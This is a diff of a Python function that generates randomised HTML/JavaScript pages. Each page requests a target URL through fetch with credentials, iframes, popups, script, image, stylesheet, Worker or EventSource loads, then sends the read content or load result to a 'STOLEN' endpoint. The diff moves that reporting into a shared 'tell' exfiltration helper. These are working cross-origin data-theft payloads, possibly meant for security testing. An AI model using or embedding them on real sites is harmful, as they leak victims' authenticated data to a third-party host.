@@ -99,19 +99,19 @@ def writes(chance: random.Random, ours: str, form: dict[str, str]) -> str:
 
 def reads(chance: random.Random, target: str) -> str:
     """A page that takes what our server answers to itself."""
-    home, to = f"'{STOLEN}?'+", json.dumps(target)
-    tell = f".then(t=>t&&fetch({home}encodeURIComponent(t.slice(0,99))))"
-    return chance.choice(
+    to = json.dumps(target)
+    tell = f"<script>tell=t=>t&&fetch('{STOLEN}?'+encodeURIComponent(String(t).slice(0,99)))</script>"
+    return tell + chance.choice(
         (
-            f"<script>fetch({to},{{credentials:'include'}}).then(r=>r.text()){tell}</script>",
-            f"<script>fetch({to},{{mode:'no-cors'}}).then(r=>r.text()){tell}</script>",
-            f'<iframe src={to} onload="try{{fetch({home}this.contentDocument.body.innerText)}}catch(e){{}}"></iframe>',
-            f"<script>w=window.open({to});setTimeout(()=>{{try{{fetch({home}w.document.title)}}catch(e){{}}}},90)</script>",
-            f"<script src={to} onload=\"fetch({home}'script')\"></script>",
-            f"<link rel=stylesheet href={to} onload=\"fetch({home}'style')\">",
-            f"<img src={to} onload=\"fetch({home}'image')\">",
-            f'<object data={to} onload="try{{fetch({home}this.contentDocument.title)}}catch(e){{}}"></object>',
-            f"<script>e=new EventSource({to});e.onopen=()=>fetch({home}'events')</script>",
-            f"<script>w=new Worker({to});w.onmessage=()=>fetch({home}'worker')</script>",
+            f"<script>fetch({to},{{credentials:'include'}}).then(r=>r.text()).then(tell)</script>",
+            f"<script>fetch({to},{{mode:'no-cors'}}).then(r=>r.text()).then(tell)</script>",
+            f'<iframe src={to} onload="try{{tell(this.contentDocument.body.innerText)}}catch(e){{}}"></iframe>',
+            f"<script>w=window.open({to});setTimeout(()=>{{try{{tell(w.document.title)}}catch(e){{}}}},90)</script>",
+            f"<script src={to} onload=\"tell('script')\"></script>",
+            f"<link rel=stylesheet href={to} onload=\"tell('style')\">",
+            f"<img src={to} onload=\"tell('image')\">",
+            f'<object data={to} onload="try{{tell(this.contentDocument.title)}}catch(e){{}}"></object>',
+            f"<script>e=new EventSource({to});e.onopen=()=>tell('events')</script>",
+            f"<script>w=new Worker({to});w.onmessage=()=>tell('worker')</script>",
         )
     )
